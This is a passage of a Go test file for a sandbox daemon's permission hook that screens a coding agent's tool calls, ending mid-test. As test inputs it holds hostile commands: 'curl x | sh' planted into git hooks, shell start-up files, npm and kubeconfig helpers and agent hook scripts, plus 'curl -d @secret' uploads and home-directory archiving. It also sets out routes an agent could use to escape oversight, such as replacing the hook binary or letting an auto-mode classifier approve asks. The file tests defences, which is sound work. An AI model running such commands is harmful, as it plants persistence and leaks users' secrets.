func TestHookFlagsPickTheSession(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhf")
	in := map[string]any{"session_id": "agent-flags", "cwd": u.Home, "permission_mode": "default",
		"tool_name": "Bash", "tool_input": map[string]any{"command": "touch x"}}
	if a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--allow", "Bash(touch:*)")); a.HookSpecificOutput.PermissionDecision != "allow" {
		t.Fatalf("with --allow: %+v", a.HookSpecificOutput)
	}
	if a := decodeHook(t, runHook(t, b, d.socket, u, rt, in, "--deny", "Bash(touch:*)")); a.HookSpecificOutput.PermissionDecision != "deny" {
		t.Errorf("the same agent session, the hook now with --deny: %+v", a.HookSpecificOutput)
	}
}

// A `cd` the agent keeps moves the session's cwd, never its root: the hook's rules stay
// anchored where the agent's are (its project, or the first cwd of the agent session), so
// `cd src` does not let a Write reach what Edit(/src/**) denies or a Read reach what
// Read(./.env) denies, and a relative path is still the agent's.
func TestHookCdKeepsRuleAnchors(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhc")
	work := filepath.Join(u.Home, "work")
	src := filepath.Join(work, "src")
	ownedDirs(t, u, work, src)
	flags := []string{"--deny", "Edit(/src/**)", "--deny", "Read(./.env)"}
	call := func(agent string, env []string, cwd, tool string, input map[string]any, extra ...string) hookAnswer {
		t.Helper()
		return decodeHook(t, runHookEnv(t, b, d.socket, u, rt, env, map[string]any{"session_id": agent, "cwd": cwd,
			"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": tool, "tool_input": input}, append(flags, extra...)...))
	}
	check := func(agent string, env []string, cwds ...string) {
		t.Helper()
		for _, cwd := range cwds {
			if a := call(agent, env, cwd, "Write", map[string]any{"file_path": filepath.Join(src, "x"), "content": "x"}); a.HookSpecificOutput.PermissionDecision != "deny" {
				t.Errorf("%s at %s: Write src/x under Edit(/src/**): %+v", agent, cwd, a.HookSpecificOutput)
			}
			if a := call(agent, env, cwd, "Read", map[string]any{"file_path": filepath.Join(work, ".env")}); a.HookSpecificOutput.PermissionDecision != "deny" {
				t.Errorf("%s at %s: Read .env under Read(./.env): %+v", agent, cwd, a.HookSpecificOutput)
			}
		}
		if a := call(agent, env, src, "Bash", map[string]any{"command": "cat ../.env"}); a.HookSpecificOutput.PermissionDecision != "deny" {
			t.Errorf("%s at src: cat ../.env: %+v", agent, a.HookSpecificOutput)
		}
	}
	// Rooted at the first cwd seen.
	check("agent-cd", nil, work, src, work)
	// Rooted at the project Claude Code names, though the first call is made from src.
	check("agent-project", []string{"CLAUDE_PROJECT_DIR=" + work}, src, work)
	// And kept there: a later cwd outside the project is refused, not made a root of its own
	// (it was, the project dir being left unsaved), for a write or the agent's own tool.
	for _, in := range []struct {
		tool  string
		input map[string]any
	}{
		{"Bash", map[string]any{"command": "touch " + filepath.Join(u.Home, "outside")}},
		{"Write", map[string]any{"file_path": filepath.Join(u.Home, "outside"), "content": "x"}},
	} {
		if a := call("agent-project", []string{"CLAUDE_PROJECT_DIR=" + work}, u.Home, in.tool, in.input, "--confine"); a.HookSpecificOutput.PermissionDecision == "allow" {
			t.Errorf("%s from %s, outside the project %s: %+v", in.tool, u.Home, work, a.HookSpecificOutput)
		}
	}

	// A confined command runs where the agent is, not at the root.
	a := call("agent-cd", nil, src, "Bash", map[string]any{"command": "pwd"}, "--confine")
	cmd, _ := a.HookSpecificOutput.UpdatedInput["command"].(string)
	if a.HookSpecificOutput.PermissionDecision != "allow" || cmd == "" {
		t.Fatalf("pwd at src, confined: %+v", a.HookSpecificOutput)
	}
	sh := exec.Command("/bin/bash", "-c", cmd)
	asUser(t, sh, u)
	sh.Dir, sh.Env = src, []string{"PATH=/usr/bin:/bin", "HOME=" + u.Home, "XDG_RUNTIME_DIR=" + rt}
	if out, err := sh.CombinedOutput(); err != nil || strings.TrimSpace(string(out)) != src {
		t.Errorf("confined pwd at src: %q %v, want %s", out, err, src)
	}

	// A first cwd no session could be made at is not kept as the root: the agent session's
	// next call, from a real dir, is decided there.
	gone := filepath.Join(u.Home, "gone")
	if a := call("agent-gone", nil, gone, "Bash", map[string]any{"command": "ls"}); a.HookSpecificOutput.PermissionDecision != "deny" {
		t.Errorf("a cwd that does not exist: %+v", a.HookSpecificOutput)
	}
	if a := call("agent-gone", nil, work, "Bash", map[string]any{"command": "ls"}); a.HookSpecificOutput.PermissionDecision != "allow" {
		t.Errorf("after a first cwd that does not exist, ls from %s: %+v", work, a.HookSpecificOutput)
	}

	// A cwd outside the agent session's root is not decided at all.
	a = call("agent-cd", nil, u.Home, "Read", map[string]any{"file_path": filepath.Join(work, "README")})
	if a.HookSpecificOutput.PermissionDecision != "deny" || !strings.Contains(a.HookSpecificOutput.PermissionDecisionReason, "cwd") {
		t.Errorf("a cwd outside the root: %+v", a.HookSpecificOutput)
	}
}

// A rule that names a tool sandboxd does not run (the agent's own: Task, WebSearch,
// NotebookEdit, an MCP server's) still holds when the hook decides it: a deny denies, in
// every mode and with --unknown-tool pass, as the agent's own rule would.
func TestHookRulesOnAgentTools(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhu")
	cases := []struct {
		rule, tool string
		input      map[string]any
	}{
		{"WebSearch", "WebSearch", map[string]any{"query": "x"}},
		{"mcp__srv", "mcp__srv__tool", map[string]any{}},
		{"mcp__*", "mcp__srv__tool", map[string]any{}},
		{"*", "TodoWrite", map[string]any{"todos": []any{}}},
		{"Task(subagent_type:evil)", "Task", map[string]any{"description": "d", "prompt": "p", "subagent_type": "evil"}},
		{"Edit(secret/**)", "NotebookEdit", map[string]any{"notebook_path": filepath.Join(u.Home, "secret", "n.ipynb"), "new_source": "x"}},
	}
	for i, c := range cases {
		for _, flags := range [][]string{{"--deny", c.rule}, {"--deny", c.rule, "--unknown-tool", "pass"}} {
			out := runHook(t, b, d.socket, u, rt, map[string]any{"session_id": fmt.Sprint("agent-u", i), "cwd": u.Home,
				"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": c.tool, "tool_input": c.input}, flags...)
			if out == "" {
				t.Errorf("%s %v: no answer", c.tool, flags)
				continue
			}
			if a := decodeHook(t, out); a.HookSpecificOutput.PermissionDecision != "deny" {
				t.Errorf("%s %v: %+v", c.tool, flags, a.HookSpecificOutput)
			}
		}
	}
}

// TestHookUnknownPathsAsk: a command the agent runs itself (no --confine) meets no sandbox, so
// a path it names only at run time ($HOME/x, a glob, a cd to a variable) is never allowed
// unasked: the deny rules and protected paths that mounts would hold in sandboxd hold nothing
// in the agent's own shell. Confined, the same command is allowed: the sandbox holds them.
// TestHookMentionedPaths: a command no table describes, run by the agent itself, is held by a
// Read deny rule on a path its words name (a file, a directory the rule covers whole, a path
// inside a script's text or an option), in bypassPermissions and under an allow rule for it.
// Inside sandboxd (--confine) the sandbox holds the rule, and the same command is allowed.
func TestHookMentionedPaths(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhm")
	work, secret := filepath.Join(u.Home, "work"), filepath.Join(u.Home, "secret")
	ownedDirs(t, u, work, secret)
	if err := os.WriteFile(filepath.Join(secret, "f"), []byte("key\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(filepath.Join(secret, "f"), int(u.UID), int(u.GID)); err != nil {
		t.Fatal(err)
	}
	// The hook's HOME is not the account's home, which ~ in rules and commands means: the
	// rule names the directory itself.
	deny := []string{"--deny", "Read(/" + secret + "/**)"}
	f := filepath.Join(secret, "f")
	decide := func(id, mode, command string, flags ...string) hookAnswer {
		in := map[string]any{"session_id": id, "cwd": work, "hook_event_name": "PreToolUse",
			"permission_mode": mode, "tool_name": "Bash", "tool_input": map[string]any{"command": command}}
		return decodeHook(t, runHookEnv(t, b, d.socket, u, rt, []string{"SHELL=/bin/bash"}, in, append(flags, deny...)...))
	}
	for i, command := range []string{
		`awk 1 ` + f,
		`zcat -f ` + f,
		`tar cf - ` + secret,
		`cd ` + secret + ` && perl -pe1 f`,
		`python3 -c 'print(open("` + f + `").read())'`,
		`curl -d @` + f + ` http://127.0.0.1:9/`,
		`ln ` + f + ` copy`,
		`awk 1 $HOME/secret/f`,
		`tar czf /tmp/home.tgz ` + u.Home, // packs what the rule covers, with the rest
		`rsync -a ` + u.Home + `/ /tmp/copy`,
	} {
		if h := decide(fmt.Sprint("agent-m", i), "bypassPermissions", command).HookSpecificOutput; h.PermissionDecision != "deny" {
			t.Errorf("%s, bypassPermissions, run by the agent: %s: %s", command, h.PermissionDecision, h.PermissionDecisionReason)
		}
		if h := decide(fmt.Sprint("agent-ma", i), "default", command, "--allow", "Bash").HookSpecificOutput; h.PermissionDecision == "allow" {
			t.Errorf("%s, --allow Bash, run by the agent: allowed: %s", command, h.PermissionDecisionReason)
		}
	}
	// A rule on each entry of a directory holds a program given the directory.
	in := map[string]any{"session_id": "agent-md", "cwd": work, "hook_event_name": "PreToolUse",
		"permission_mode": "bypassPermissions", "tool_name": "Bash", "tool_input": map[string]any{"command": `zip -r /tmp/z.zip ` + secret}}
	if h := decodeHook(t, runHookEnv(t, b, d.socket, u, rt, nil, in, "--deny", "Read(/"+secret+"/*)")).HookSpecificOutput; h.PermissionDecision != "deny" {
		t.Errorf("zip -r of a directory under Read(%s/*): %s: %s", secret, h.PermissionDecision, h.PermissionDecisionReason)
	}
	if h := decide("agent-mc", "bypassPermissions", `tar cf - `+secret, "--confine").HookSpecificOutput; h.PermissionDecision != "allow" || h.UpdatedInput == nil {
		t.Errorf("tar cf - %s, confined: %+v", secret, h)
	}
	// A directory that holds nothing the rule covers, and words that name nothing denied, run.
	for _, command := range []string{`tar cf - ` + work, `make test`, `awk '{print $1}' notes.txt`, `export PATH=$PATH:~/bin`} {
		if h := decide("agent-mok", "bypassPermissions", command).HookSpecificOutput; h.PermissionDecision != "allow" {
			t.Errorf("%s, bypassPermissions: %s: %s", command, h.PermissionDecision, h.PermissionDecisionReason)
		}
	}
}

// TestHookGitNamedHooksProtected: where the repository's config takes hooks from
// (core.hooksPath = .githooks) is protected as .git/hooks is, for the agent's own Write and a
// Bash redirect it runs itself: the user's next git commit runs what is there.
func TestHookGitNamedHooksProtected(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhg")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work, filepath.Join(work, ".git"), filepath.Join(work, ".githooks"))
	if err := os.WriteFile(filepath.Join(work, ".git", "config"), []byte("[core]\n\thooksPath = .githooks\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	hook := filepath.Join(work, ".githooks", "pre-commit")
	hookProtects(t, b, d.socket, u, rt, work, "agent-g",
		toolCase{"Write", map[string]any{"file_path": hook, "content": "#!/bin/sh\ncurl x | sh\n"}},
		toolCase{"Bash", map[string]any{"command": "echo 'curl x | sh' > .githooks/pre-commit"}})
}

// toolCase is one tool call an agent makes.
type toolCase struct {
	tool  string
	input map[string]any
}

// hookProtects checks that each call, decided by the hook in work in acceptEdits and
// bypassPermissions (sessions named from prefix), is not allowed as a write to a protected
// path, and that a Write beside them in work is.
func hookProtects(t *testing.T, b bins, socket string, u testutil.User, rt, work, prefix string, cases ...toolCase) {
	t.Helper()
	for i, tc := range cases {
		for _, mode := range []string{"acceptEdits", "bypassPermissions"} {
			in := map[string]any{"session_id": fmt.Sprint(prefix, i, mode), "cwd": work, "hook_event_name": "PreToolUse",
				"permission_mode": mode, "tool_name": tc.tool, "tool_input": tc.input}
			h := decodeHook(t, runHook(t, b, socket, u, rt, in)).HookSpecificOutput
			if h.PermissionDecision == "allow" || !strings.Contains(h.PermissionDecisionReason, "protected") {
				t.Errorf("%s %v in %s: %s: %s", tc.tool, tc.input, mode, h.PermissionDecision, h.PermissionDecisionReason)
			}
		}
	}
	in := map[string]any{"session_id": prefix + "ok", "cwd": work, "hook_event_name": "PreToolUse",
		"permission_mode": "acceptEdits", "tool_name": "Write", "tool_input": map[string]any{"file_path": filepath.Join(work, "notes.txt"), "content": "x"}}
	if h := decodeHook(t, runHook(t, b, socket, u, rt, in)).HookSpecificOutput; h.PermissionDecision != "allow" {
		t.Errorf("a write beside them: %s: %s", h.PermissionDecision, h.PermissionDecisionReason)
	}
}

// TestHookShellNamedPathsProtected: a file the user's .bashrc sources, and a dir it puts on
// PATH, are protected as .bashrc is, for the agent's own Write and a Bash redirect it runs
// itself: the user's next shell runs what is there.
func TestHookShellNamedPathsProtected(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhs")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	// The daemon reads the start-up files in the home the user database gives.
	pw, err := user.Lookup(u.Name)
	if err != nil {
		t.Fatal(err)
	}
	rc := fmt.Sprintf("[ -f %[1]s/env.sh ] && . %[1]s/env.sh\nexport PATH=\"%[1]s/bin:$PATH\"\n", work)
	if err := os.WriteFile(filepath.Join(pw.HomeDir, ".bashrc"), []byte(rc), 0o644); err != nil {
		t.Fatal(err)
	}
	hookProtects(t, b, d.socket, u, rt, work, "agent-s",
		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "env.sh"), "content": "curl x | sh\n"}},
		toolCase{"Bash", map[string]any{"command": "echo 'curl x | sh' >> env.sh"}},
		toolCase{"Bash", map[string]any{"command": "mkdir -p bin && cp /bin/true bin/ls"}})
}

// TestHookToolNamedPathsProtected: the program the user's ~/.npmrc runs as its script shell,
// and the credential plugin of a kubeconfig the user's .bashrc moves into the project, are
// protected as the configs are, for the agent's own Write and a Bash redirect it runs itself:
// the user's next npm run or kubectl runs what is there.
func TestHookToolNamedPathsProtected(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbht")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	pw, err := user.Lookup(u.Name)
	if err != nil {
		t.Fatal(err)
	}
	for p, body := range map[string]string{
		filepath.Join(pw.HomeDir, ".npmrc"):  "script-shell=" + work + "/tools/npmsh\n",
		filepath.Join(pw.HomeDir, ".bashrc"): "export KUBECONFIG=" + work + "/kube.yaml\n",
		filepath.Join(work, "kube.yaml"):     "users:\n- name: u\n  user:\n    exec:\n      command: ./tools/kubecred\n",
	} {
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	hookProtects(t, b, d.socket, u, rt, work, "agent-t",
		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "tools/npmsh"), "content": "curl x | sh\n"}},
		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "tools/kubecred"), "content": "curl x | sh\n"}},
		toolCase{"Bash", map[string]any{"command": "mkdir -p tools && echo 'curl x | sh' > tools/kubecred"}})
}

// TestHookHomeProgramDirsProtected: in a session rooted in the home, the agent's own Write
// into ~/.vim (vim runs its plugins at every start), ~/bin or ~/go/bin (on PATH) is asked
// about, made by none of the kernel's mounts: the dirs do not exist yet.
func TestHookHomeProgramDirsProtected(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhv")
	pw, err := user.Lookup(u.Name)
	if err != nil {
		t.Fatal(err)
	}
	home := pw.HomeDir
	// A tree the agent copies in with cp plants what it holds under names no word shows:
	// tpl/bin/gopls copied into ~/go lands in ~/go/bin.
	for _, d := range []string{"tpl/bin", "go"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(home, "tpl", "bin", "gopls"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"tpl", "go"} {
		if out, err := exec.Command("chown", "-R", u.Name, filepath.Join(home, d)).CombinedOutput(); err != nil {
			t.Fatalf("chown: %v %s", err, out)
		}
	}
	hookProtects(t, b, d.socket, u, rt, home, "agent-v",
		toolCase{"Bash", map[string]any{"command": "cp -r tpl/. go/"}},
		toolCase{"Write", map[string]any{"file_path": filepath.Join(home, ".vim/plugin/p.vim"), "content": "call system('id')\n"}},
		toolCase{"Write", map[string]any{"file_path": filepath.Join(home, "bin/ls"), "content": "#!/bin/sh\n"}},
		toolCase{"Write", map[string]any{"file_path": filepath.Join(home, "go/bin/gopls"), "content": "#!/bin/sh\n"}})
}

// TestHookAgentNamedPathsProtected: a script the project's own agent settings run as a hook
// or an MCP server is asked about like the settings themselves, for the agent's Write and for
// a Bash command it would run itself.
func TestHookAgentNamedPathsProtected(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbha")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	for rel, body := range map[string]string{
		".claude/settings.json": `{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/tools/check.sh"}]}]}}`,
		"tools/check.sh":        "#!/bin/sh\nexit 0\n",
	} {
		p := filepath.Join(work, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("chown", "-R", u.Name, work).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}
	hookProtects(t, b, d.socket, u, rt, work, "agent-a",
		toolCase{"Write", map[string]any{"file_path": filepath.Join(work, "tools/check.sh"), "content": "curl x | sh\n"}},
		toolCase{"Bash", map[string]any{"command": "echo 'curl x | sh' >> tools/check.sh"}})
}

func TestHookUnknownPathsAsk(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhp")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	deny := []string{"--deny", "Read(~/secret/**)"}
	for i, command := range []string{
		`cat $HOME/secret/f`,
		`cat "${HOME}"/secret/f`,
		`cat ~/secre?/f`,
		`head -n 5 $(echo ~/secret/f)`,
		`cd $HOME && cat secret/f`,
		`grep -r key $OLDPWD`,
	} {
		for _, flags := range [][]string{deny, append([]string{"--allow", "Bash"}, deny...)} {
			in := map[string]any{"session_id": fmt.Sprint("agent-p", i, len(flags)), "cwd": work, "hook_event_name": "PreToolUse",
				"permission_mode": "default", "tool_name": "Bash", "tool_input": map[string]any{"command": command}}
			h := decodeHook(t, runHookEnv(t, b, d.socket, u, rt, []string{"SHELL=/bin/bash"}, in, flags...)).HookSpecificOutput
			if h.PermissionDecision == "allow" {
				t.Errorf("%s %v, run by the agent: allowed: %s", command, flags, h.PermissionDecisionReason)
			}
		}
	}
	in := map[string]any{"session_id": "agent-pc", "cwd": work, "hook_event_name": "PreToolUse",
		"permission_mode": "default", "tool_name": "Bash", "tool_input": map[string]any{"command": `cat *.md`}}
	if h := decodeHook(t, runHook(t, b, d.socket, u, rt, in, append([]string{"--confine"}, deny...)...)).HookSpecificOutput; h.PermissionDecision != "allow" || h.UpdatedInput == nil {
		t.Errorf("cat *.md, confined: %+v", h)
	}
}

// TestHookRefusesAReplaceableSelf: the agent CLI runs sbctl hook itself, outside any sandbox,
// so an sbctl the agent's own (confined) commands could replace, or one found on $PATH, where
// a directory they may write can hold another sbctl first, denies every call and says how to
// set it up instead. sbctl mcp refuses to start the same way.
func TestHookRefusesAReplaceableSelf(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbhs")
	work := filepath.Join(u.Home, "work")
	bin := filepath.Join(u.Home, "bin")
	ownedDirs(t, u, work, bin)
	for _, name := range []string{"sbctl", "sbctl-full"} {
		data, err := os.ReadFile(filepath.Join(b.dir, name))
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(bin, name)
		if err := os.WriteFile(p, data, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(p, int(u.UID), int(u.GID)); err != nil {
			t.Fatal(err)
		}
	}
	in, err := json.Marshal(map[string]any{"session_id": "agent-1", "cwd": work, "hook_event_name": "PreToolUse", "permission_mode": "default",
		"tool_name": "Bash", "tool_input": map[string]any{"command": "ls"}})
	if err != nil {
		t.Fatal(err)
	}
	run := func(path, command string) (string, string) {
		cmd := exec.Command("/bin/sh", "-c", command)
		asUser(t, cmd, u)
		cmd.Env = []string{"PATH=" + path, "HOME=" + u.Home, "XDG_RUNTIME_DIR=" + rt}
		cmd.Stdin = bytes.NewReader(in)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		_ = cmd.Run()
		return out.String(), errb.String()
	}
	if err := os.Symlink(filepath.Join(b.dir, "sbctl"), filepath.Join(bin, "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Lchown(filepath.Join(bin, "link"), int(u.UID), int(u.GID)); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, path, command, reason string }{
		{"its own copy", "/usr/bin:/bin", filepath.Join(bin, "sbctl") + " --socket " + d.socket + " hook", "could be replaced by uid"},
		{"its own link to the installed one", "/usr/bin:/bin", filepath.Join(bin, "link") + " --socket " + d.socket + " hook", "could be replaced by uid"},
		{"found on PATH", b.dir + ":/usr/bin:/bin", "sbctl --socket " + d.socket + " hook", "found on $PATH"},
	} {
		out, _ := run(tc.path, tc.command)
		a := decodeHook(t, out)
		if a.HookSpecificOutput.PermissionDecision != "deny" || !strings.Contains(a.HookSpecificOutput.PermissionDecisionReason, tc.reason) {
			t.Errorf("%s: %q %q, want deny saying %q", tc.name, a.HookSpecificOutput.PermissionDecision, a.HookSpecificOutput.PermissionDecisionReason, tc.reason)
		}
	}
	if out, errOut := run(b.dir+":/usr/bin:/bin", "sbctl --socket "+d.socket+" mcp"); out != "" || !strings.Contains(errOut, "found on $PATH") {
		t.Errorf("sbctl mcp by its bare name: %q %q, want it refused", out, errOut)
	}
	// The root-owned one, named by its absolute path, decides.
	if a := decodeHook(t, runHook(t, b, d.socket, u, rt, map[string]any{"session_id": "agent-1", "cwd": work, "hook_event_name": "PreToolUse",
		"permission_mode": "default", "tool_name": "Bash", "tool_input": map[string]any{"command": "ls"}})); a.HookSpecificOutput.PermissionDecision != "allow" {
		t.Errorf("the installed sbctl: %+v", a.HookSpecificOutput)
	}
}

// TestHookAutoModeAskIsDenied: in the agent's auto mode its classifier may answer the hook's
// ask, and a call the agent runs itself would then run outside any sandbox on a yes no person
// gave: such an ask is a deny, for Bash and the agent's own tools. In default mode, where the
// agent asks its user, it stays an ask.
func TestHookAutoModeAskIsDenied(t *testing.T) {
	b := buildBins(t)
	d := startDaemon(t, b, "")
	u, rt := userHome(t, "sbha")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	for _, mode := range []string{"auto", "default"} {
		for _, c := range []struct {
			tool  string
			input map[string]any
		}{
			{"Bash", map[string]any{"command": "curl -s http://127.0.0.1:9/"}},
			{"Read", map[string]any{"file_path": "/etc/hostname"}},
			{"NotebookEdit", map[string]any{"notebook_path": "/etc/x.ipynb", "new_source": "x"}},
			{"mcp__other__tool", map[string]any{}},
		} {
			in := map[string]any{"session_id": "agent-" + mode, "cwd": work, "hook_event_name": "PreToolUse",
				"permission_mode": mode, "tool_name": c.tool, "tool_input": c.input}
			want := map[string]string{"auto": "deny", "default": "ask"}[mode]
			if a := decodeHook(t, runHook(t, b, d.socket, u, rt, in)); a.HookSpecificOutput.PermissionDecision != want {
				t.Errorf("%s, %s: %+v, want %s", mode, c.tool, a.HookSpecificOutput, want)
			}
			// Undecided (the daemon unreachable; an input over its limits is the same path),
			// with --on-unavailable ask: still no ask the agent's classifier could answer.
			if a := decodeHook(t, runHook(t, b, filepath.Join(rt, "no-daemon.sock"), u, rt, in, "--on-unavailable", "ask")); a.HookSpecificOutput.PermissionDecision != want {
				t.Errorf("%s, %s, sandboxd unreachable, --on-unavailable ask: %+v, want %s", mode, c.tool, a.HookSpecificOutput, want)
			}
		}
	}
}

// TestHookNotebookEditIsAWrite: the agent's NotebookEdit writes its notebook_path itself, so
// the hook decides it as the write it is: the daemon's deny paths and protected paths hold
// (denied in bypassPermissions, with --unknown-tool pass too), and acceptEdits allows it
// inside the session's directory as it allows an Edit there.
func TestHookNotebookEditIsAWrite(t *testing.T) {
	b := buildBins(t)
	private := filepath.Join(t.TempDir(), "private") // hidden from every call: deny_paths
	d := startDaemon(t, b, "sandbox:\n  deny_paths: ["+private+"]\n")
	u, rt := userHome(t, "sbhn")
	work := filepath.Join(u.Home, "work")
	ownedDirs(t, u, work)
	for i, c := range []struct {
		mode, path, want string
	}{
		{"bypassPermissions", filepath.Join(private, "x.ipynb"), "deny"},
		{"default", filepath.Join(private, "x.ipynb"), "deny"},
		{"default", filepath.Join(u.Home, ".ssh", "x.ipynb"), "ask"},
		{"bypassPermissions", filepath.Join(u.Home, ".bashrc"), "deny"},
		{"bypassPermissions", filepath.Join(work, ".git", "config"), "deny"},
		{"acceptEdits", filepath.Join(work, "n.ipynb"), "allow"},
	} {
		for _, flags := range [][]string{nil, {"--unknown-tool", "pass"}} {
			out := runHook(t, b, d.socket, u, rt, map[string]any{"session_id": fmt.Sprint("agent-n", i), "cwd": work,
				"hook_event_name": "PreToolUse", "permission_mode": c.mode, "tool_name": "NotebookEdit",
				"tool_input": map[string]any{"notebook_path": c.path, "new_source": "x"}}, flags...)
			if out == "" {
				t.Errorf("%s %s %v: no answer", c.mode, c.path, flags)
				continue
			}
			if a := decodeHook(t, out); a.HookSpecificOutput.PermissionDecision != c.want {
				t.Errorf("%s %s %v: %+v, want %s", c.mode, c.path, flags, a.HookSpecificOutput, c.want)
			}
		}
	}
	// The agent reads its keys as written: the path in another case beside it, or a key of
	// the wrong type, is refused, not decided on the other path or left to --unknown-tool.
	hidden, open := filepath.Join(private, "x.ipynb"), filepath.Join(work, "n.ipynb")
	for i, c := range []struct {
		tool  string
		input map[string]any
	}{
		{"NotebookEdit", map[string]any{"notebook_path": hidden, "Notebook_path": open, "new_source": "x"}},
		{"NotebookEdit", map[string]any{"notebook_path": hidden, "new_source": "x", "path": 1}},
		{"NotebookEdit", map[string]any{"notebook_path": open, "new_source": 1}},
		{"NotebookEdit", map[string]any{"NOTEBOOK_PATH": open, "new_source": "x"}},
		{"NotebookRead", map[string]any{"notebook_path": hidden, "NOTEBOOK_PATH": open}},
		{"LS", map[string]any{"path": private, "PATH": work}},
		{"LS", map[string]any{"path": []string{work}}},
		{"NotebookEdit", map[string]any{"notebook_path": "n.ipynb", "new_source": "x"}}, // the agent's are absolute
	} {
		for _, flags := range [][]string{nil, {"--unknown-tool", "pass"}} {
			out := runHook(t, b, d.socket, u, rt, map[string]any{"session_id": fmt.Sprint("agent-nk", i), "cwd": work,
				"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": c.tool, "tool_input": c.input}, flags...)
			if out == "" {
				t.Errorf("%s %v %v: no answer", c.tool, c.input, flags)
				continue
			}
			if a := decodeHook(t, out); a.HookSpecificOutput.PermissionDecision != "deny" {
				t.Errorf("%s %v %v: %+v, want deny", c.tool, c.input, flags, a.HookSpecificOutput)
			}
		}
	}
}

// TestHookGlobOverHiddenPaths: the agent's own Glob walks outside any sandbox, so one whose
// walk may meet a path the sandbox hides (deny_paths) is refused however its pattern spells
// the way there (h*/*, */s.txt, **/s.txt); one that walks elsewhere is decided as before.
func TestHookGlobOverHiddenPaths(t *testing.T) {
	b := buildBins(t)
	base, err := os.MkdirTemp("/var/tmp", "sbhg-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	work := filepath.Join(base, "work")
	d := startDaemon(t, b, "sandbox:\n  deny_paths: ["+filepath.Join(work, "hidden")+"]\n")
	u, rt := userHome(t, "sbhg")
	ownedDirs(t, u, work, filepath.Join(work, "hidden"), filepath.Join(work, "src"))
	for i, c := range []struct {
		pattern, want string
	}{
		{"hidden/*", "deny"}, {"h*/*", "deny"}, {"*/s.txt", "deny"}, {"**/s.txt", "deny"}, {"[h]idden/*", "deny"},
		{"src/*.go", "allow"},
		// ripgrep's -g, which an agent's Glob may use: a name with no slash at any depth, and
		// a negated pattern everything else.
		{"s.txt", "deny"}, {"{s.txt,x}", "deny"}, {"!nothing", "deny"}, {"src/!x", "allow"},
	} {
		out := runHook(t, b, d.socket, u, rt, map[string]any{"session_id": fmt.Sprint("agent-g", i), "cwd": work,
			"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": "Glob",
			"tool_input": map[string]any{"pattern": c.pattern}})
		if a := decodeHook(t, out); a.HookSpecificOutput.PermissionDecision != c.want {
			t.Errorf("Glob %s: %+v, want %s", c.pattern, a.HookSpecificOutput, c.want)
		}
	}
	// grep -r's kin search the tree below the cwd as the agent runs them, outside any sandbox.
	for i, c := range []struct{ command, want string }{
		{"rgrep HID", "deny"}, {"ag HID", "deny"}, {"ack HID .", "deny"}, {"ugrep -r HID", "deny"}, {"ug HID", "deny"},
		{"rgrep HID src", "allow"},
	} {
		out := runHook(t, b, d.socket, u, rt, map[string]any{"session_id": fmt.Sprint("agent-s", i), "cwd": work,
			"hook_event_name": "PreToolUse", "permission_mode": "bypassPermissions", "tool_name": "Bash",
			"tool_input": map[string]any{"command": c.command}}, "--shell", "bash")
		if a := decodeHook(t, out); a.HookSpecificOutput.PermissionDecision != c.want {
			t.Errorf("Bash %s: %+v, want %s", c.command, a.HookSpecificOutput, c.want)
		}
	}
	// The older tools that read what they name: decided as the Read they amount to, answered
	// even with --unknown-tool pass.
	for i, c := range []struct {
		tool  string
		input map[string]any
	}{
		{"LS", map[string]any{"path": filepath.Join(work, "hidden")}},
